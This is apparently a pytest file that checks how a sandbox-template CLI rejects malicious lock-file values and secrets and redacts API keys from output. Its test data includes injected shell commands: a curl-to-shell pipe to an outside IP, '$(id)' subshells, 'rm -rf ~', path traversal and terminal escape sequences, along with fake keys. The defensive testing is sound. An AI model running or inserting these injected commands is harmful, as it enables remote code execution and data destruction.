"""Trust boundaries: the lock, secrets, two runs at once, the resolver, one answer per mistake.

Each class is tried beyond the example that found it, as ``assert_refused`` does: exit 2, one
line naming the file and the key (or the flag), no traceback, nothing changed on disk (inside
the project, and a file outside it), zero requests to the emulator, and the key nowhere.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import FP, cli_runner, sigint_default, snapshot, wait_for, write
from e2b_matrix.cli import cli
from e2b_matrix.lock import TemplateLock
from test_reliability import assert_refused

UUID = "0f1c2d3e-0000-4000-8000-000000000001"
ALIAS = "nexus-sandbox-latest"


def good_lock(**fields) -> str:
    """A schema-2 lock with one good entry for ``latest``; ``fields`` replace or add TOML lines of it."""
    base = {
        "variant": '"latest"',
        "template_id": '"tpl"',
        "build_id": f'"{UUID}"',
        "fingerprint": f'"{FP}"',
        "built_at": "2026-11-26T17:00:00Z",
        "layers": '{ base = "1", fuse = "1", nexus = "0.9.26" }',
    }
    base.update(fields)
    body = "".join(f"{k} = {v}\n" for k, v in base.items() if v is not None)
    return f"schema = 2\n\n[templates.{ALIAS}]\n{body}"


ESC = "\\u001b]0;pwned\\u0007\\u001b[2J"  # TOML escapes: a terminal title and a clear screen

# (id, lock text, what the one line names): every value a lock holds, each shape an attacker tries
LOCK_VALUES = [
    (
        "layer-version-shell",
        good_lock(layers='{ base = "1", nexus = "0.9.26 && curl -s http://203.0.113.9/x | sh" }'),
        f"templates.{ALIAS}.layers.nexus: ",
    ),
    ("layer-version-subshell", good_lock(layers='{ base = "1", nexus = "$(id)" }'), f"templates.{ALIAS}.layers.nexus"),
    ("layer-version-escape", good_lock(layers=f'{{ base = "{ESC}" }}'), f"templates.{ALIAS}.layers.base"),
    ("layer-name", good_lock(layers='{ "base; rm" = "1" }'), f'templates.{ALIAS}.layers."base; rm": bad key'),
    ("variant-space", good_lock(variant='"lat est"'), f"templates.{ALIAS}.variant: "),
    ("variant-escape", good_lock(variant=f'"{ESC}"'), f"templates.{ALIAS}.variant: "),
    ("variant-c1-csi", good_lock(variant='"latest\\u009b2J"'), f"templates.{ALIAS}.variant: "),
    ("input-c1-csi", good_lock(inputs='{ cpu_count = "2\\u009b2J" }'), f"templates.{ALIAS}.inputs.cpu_count: "),
    (
        "alias-escape",
        good_lock().replace(f"[templates.{ALIAS}]", f'[templates."{ALIAS}{ESC}"]'),
        f'templates."{ALIAS}\\u001b',
    ),
    ("alias-uppercase", good_lock().replace(f"[templates.{ALIAS}]", "[templates.Nexus]"), "templates.Nexus: "),
    ("image-shell", good_lock(image='"x; rm -rf ~"'), f"templates.{ALIAS}.image: "),
    ("channel-name", good_lock(channels=f'{{ "st able" = "{UUID}" }}'), f'templates.{ALIAS}.channels."st able"'),
    ("channel-build", good_lock(channels='{ stable = "b $(id)" }'), f"templates.{ALIAS}.channels.stable: "),
    ("channel-escape", good_lock(channels=f'{{ stable = "{ESC}" }}'), f"templates.{ALIAS}.channels.stable: "),
    ("domain-path", good_lock(domain='"e2b.app/../evil"'), f"templates.{ALIAS}.domain: "),
    ("api-url-scheme", good_lock(api_url='"ftp://127.0.0.1"'), f"templates.{ALIAS}.api_url: "),
    ("fingerprint-shape", good_lock(fingerprint='"md5:abc"'), f"templates.{ALIAS}.fingerprint: "),
    ("input-escape", good_lock(inputs=f'{{ "nexus.version" = "{ESC}" }}'), f'templates.{ALIAS}.inputs."nexus.version"'),
    ("input-key", good_lock(inputs='{ "Bad Key" = "1" }'), f'templates.{ALIAS}.inputs."Bad Key": bad key'),
    ("template-id-long", good_lock(template_id='"' + "a" * 500 + '"'), f"templates.{ALIAS}.template_id: "),
    (
        "history-layer",
        good_lock() + f'\n[[templates.{ALIAS}.history]]\nbuild_id = "{UUID}"\nfingerprint = "{FP}"\n'
        'built_at = 2026-11-20T17:00:00Z\nlayers = { nexus = "0.5.6 | sh" }\n',
        f"templates.{ALIAS}.history[0].layers.nexus: ",
    ),
    (
        "history-unknown",
        good_lock() + f'\n[[templates.{ALIAS}.history]]\nbuild_id = "{UUID}"\nfingerprint = "{FP}"\n'
        "built_at = 2026-11-20T17:00:00Z\nchannels = {}\n",
        f"templates.{ALIAS}.history[0].channels: unknown key",
    ),
    (
        "misspelt-table",
        good_lock(chanels=f'{{ stable = "{UUID}" }}'),
        f"templates.{ALIAS}.chanels: unknown key; did you mean 'channels'?",
    ),
    ("unknown-top", "future = 1\n" + good_lock(), "future: unknown key"),
]
LOCK_READERS = [
    ["build", "full", "--offline"],
    ["build-all"],
    ["plan"],
    ["plan", "--offline"],
    ["resolve", "latest"],
    ["resolve"],
    ["resolve", "latest", "--id"],
    ["lock", "show"],
    ["lock", "show", "--json"],
    ["lock", "check"],
    ["promote", "latest"],
    ["rollback", "latest"],
    ["status"],
    ["verify", "latest"],
]


@pytest.mark.parametrize("case_id,text,key", LOCK_VALUES, ids=[c[0] for c in LOCK_VALUES])
def test_no_value_from_the_lock_passes_unchecked(project, emu, tmp_path_factory, case_id, text, key):
    lock = project / "templates.lock"
    lock.write_text(text)
    outside = tmp_path_factory.mktemp("outside") / "bystander"
    outside.write_bytes(b"untouched")
    for args in LOCK_READERS:
        line = assert_refused(project, emu, args, f"{lock}: {key}")
        assert not {"\x1b", "\x07", "\x9b"} & set(line), (case_id, args)
        assert "curl -s http" not in line or case_id == "layer-version-shell"
    assert outside.read_bytes() == b"untouched"


def test_a_good_lock_is_read_by_every_reader(project, emu):
    """The corpus above fails for its bad value, not for its shape: the same lock, good, is read."""
    (project / "templates.lock").write_text(good_lock(channels=f'{{ stable = "{UUID}" }}'))
    for args in (["resolve", "latest"], ["lock", "show"], ["plan"]):
        r = cli_runner().invoke(cli, ["-C", str(project), *args])
        assert r.exit_code == 0, (args, r.output)
    assert cli_runner().invoke(cli, ["-C", str(project), "resolve", "latest"]).stdout == f"{ALIAS}:{UUID}\n"


# --------------------------------------------------------------------------- secrets

SECRET = "e2b_" + "5ecre7" * 6


@pytest.mark.parametrize(
    "where,files,key",
    [
        (
            "start_cmd",
            {"variants/latest.toml": f'\n[params.base]\nstart_cmd = "run --key {SECRET}"\n'},
            "params.base.start_cmd",
        ),
        (
            "ready_cmd",
            {"variants/latest.toml": f'\n[params.base]\nready_cmd = "curl -H {SECRET}"\n'},
            "params.base.ready_cmd",
        ),
        (
            "description",
            {
                "variants/x.toml": f'[variant]\nname = "x"\nalias = "x"\nlayers = ["base"]\n'
                f'description = "key: {SECRET}"\n'
            },
            "variant.description",
        ),
        (
            "matrix",
            {
                "variants/x.toml": '[variant]\nname = "x-{k}"\nalias = "x-{k}"\nlayers = ["base"]\n'
                f'[matrix]\nk = ["{SECRET}"]\n'
            },
            "matrix.k[0]",
        ),
        (
            "layer-run",
            {
                "layers/l.toml": f'[layer]\nname = "l"\nversion = "1"\n[[steps]]\nrun = "echo {SECRET}"\n',
                "variants/x.toml": '[variant]\nname = "x"\nalias = "x"\nlayers = ["base", "l"]\n',
            },
            "steps[0].run",
        ),
        (
            "layer-env-name",
            {
                "layers/l.toml": '[layer]\nname = "l"\nversion = "1"\n[[steps]]\n'
                'env = { GITHUB_TOKEN = "ghp0123456789abcdef" }\n',
                "variants/x.toml": '[variant]\nname = "x"\nalias = "x"\nlayers = ["base", "l"]\n',
            },
            "steps[0].env.GITHUB_TOKEN",
        ),
        (
            "check",
            {
                "layers/l.toml": f'[layer]\nname = "l"\nversion = "1"\n[[checks]]\nname = "c"\n'
                f'command = "test {SECRET}"\n',
                "variants/x.toml": '[variant]\nname = "x"\nalias = "x"\nlayers = ["base", "l"]\n',
            },
            "checks[0].command",
        ),
    ],
)
def test_a_secret_in_any_variant_input_is_refused_before_any_request(project, emu, where, files, key):
    for name, text in files.items():
        path = project / name
        write(path, (path.read_text() if path.exists() else "") + text)
    for args in (["build-all"], ["plan"], ["list"], ["render", "x" if "variants/x.toml" in files else "latest"]):
        line = assert_refused(project, emu, args, f"{key}: looks like a secret (not shown)")
        assert SECRET not in line and "5ecre7" not in line and "ghp0123" not in line


def test_this_runs_key_is_refused_even_when_it_has_no_e2b_shape(project, emu, monkeypatch):
    key = "sk-self-hosted-0123456789"
    monkeypatch.setenv("E2B_API_KEY", key)
    write(
        project / "variants/latest.toml",
        (project / "variants/latest.toml").read_text() + f'\n[params.base]\nstart_cmd = "serve {key}"\n',
    )
    line = assert_refused(project, emu, ["build", "latest"], "variants/latest.toml: params.base.start_cmd: looks like")
    assert key not in line


def test_a_secret_in_set_is_refused_naming_set_not_the_value(project, emu):
    for value in (f"base.start_cmd=run {SECRET}", f"nexus.version={SECRET}", "base.api_token=abcdef123456"):
        line = assert_refused(project, emu, ["build-all", "--set", value], "--set: ")
        assert "looks like a secret" in line and SECRET not in line and "abcdef123456" not in line


def test_an_api_error_that_echoes_the_key_is_redacted_in_every_output(project, emu):
    key = os.environ["E2B_API_KEY"]
    emu.inject("request_build", status=400, count=50, body={"code": 400, "message": f"bad request for {key}"})
    for args in (["build-all", "--json"], ["build-all"], ["build-all", "-vv", "--json"]):
        r = cli_runner().invoke(cli, ["-C", str(project), *args])
        assert r.exit_code == 1, r.output
        assert key not in r.stdout and key not in r.stderr, args
        assert "bad request for" in r.output  # the message is shown, the key is not
    if "--json" in args:
        assert all(key not in x["error"] for x in json.loads(r.stdout))
    for path in project.rglob("*"):
        if path.is_file():
            assert key.encode() not in path.read_bytes(), path


def test_verify_details_are_redacted_in_json_and_table(project, emu):
    key = os.environ["E2B_API_KEY"]
    assert cli_runner().invoke(cli, ["-C", str(project), "build", "minimal"]).exit_code == 0
    emu.inject("create_sandbox", status=400, count=10, body={"code": 400, "message": f"no sandbox for {key}"})
    for args in (["verify", "minimal", "--json"], ["verify", "minimal"]):
        r = cli_runner().invoke(cli, ["-C", str(project), *args])
        assert r.exit_code == 1, r.output
        assert key not in r.output and "no sandbox for" in r.output, args


# --------------------------------------------------------------------------- two runs at once


def test_two_build_alls_at_once_build_each_variant_once(project, emu):
    """The second run waits for the first's build of each alias, then finds it in the lock: 4 builds."""
    for alias in ("nexus-sandbox-latest", "nexus-sandbox-pinned", "nexus-sandbox-minimal", "nexus-sandbox-full"):
        emu.configure(alias, duration=1.0)
    env = {**os.environ}
    cmd = [sys.executable, "-m", "e2b_matrix", "-C", str(project), "build-all", "--json"]
    first = subprocess.Popen(
        cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, preexec_fn=sigint_default
    )
    wait_for(lambda: emu.builds, what="the first run's first build request")  # it holds that alias now
    second = subprocess.Popen(
        cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, preexec_fn=sigint_default
    )
    outs = [p.communicate(timeout=120) for p in (first, second)]
    assert [first.returncode, second.returncode] == [0, 0], outs
    assert len(emu.builds) == 4, [b.name for b in emu.builds]
    lock = TemplateLock.load(project / "templates.lock")
    assert all(not e.history for e in lock)  # no build of the same spec twice in history
    results = [{x["name"]: x for x in json.loads(out)} for out, _ in outs]
    for name in results[0]:
        a, b = results[0][name], results[1][name]
        assert a["build_id"] == b["build_id"] == lock.entry(name).build_id
        assert {a["status"], b["status"]} <= {"built", "fresh"}


# --------------------------------------------------------------------------- one answer per mistake


@pytest.mark.parametrize(
    "args,flag",
    [
        (["plan", "--format", "markdown", "--json"], "--json: --json and --format markdown ask for two outputs"),
        (["plan", "--format", "table", "--json"], "--json: --json and --format table ask for two outputs"),
        (["resolve", "latest", "--id", "--channel", "stable"], "--channel: --id and --channel ask for different"),
        (["-v", "-q", "list"], "-q: -q and -v ask for less and more output"),
        (["list", "-q", "-v"], "-q: -q and -v ask for less and more output"),
    ],
)
def test_conflicting_flags_are_an_error(project, emu, args, flag):
    assert_refused(project, emu, args, flag)


def test_plan_json_alone_and_format_json_together_are_one_output(project, emu):
    outs = [
        cli_runner().invoke(cli, ["-C", str(project), "plan", *a]).stdout
        for a in (["--json"], ["--format", "json"], ["--format", "json", "--json"])
    ]
    assert outs[0] == outs[1] == outs[2] and json.loads(outs[0])["variants"]


def test_without_a_key_build_asks_nothing_and_writes_nothing(project, emu, monkeypatch, tmp_path):
    monkeypatch.delenv("E2B_API_KEY")
    cache = Path(os.environ["XDG_CACHE_HOME"])
    before_cache = snapshot(cache)
    for args in (["build-all"], ["build", "latest"], ["build-all", "--offline"]):
        r = cli_runner().invoke(cli, ["-C", str(project), *args])
        err = r.stderr.strip().splitlines()
        assert r.exit_code == 2 and len(err) == 1 and "no E2B API key" in err[0], r.output
    assert snapshot(cache) == before_cache and emu.request_count == 0
    assert not (project / "templates.lock").exists() and not (project / "logs").exists()
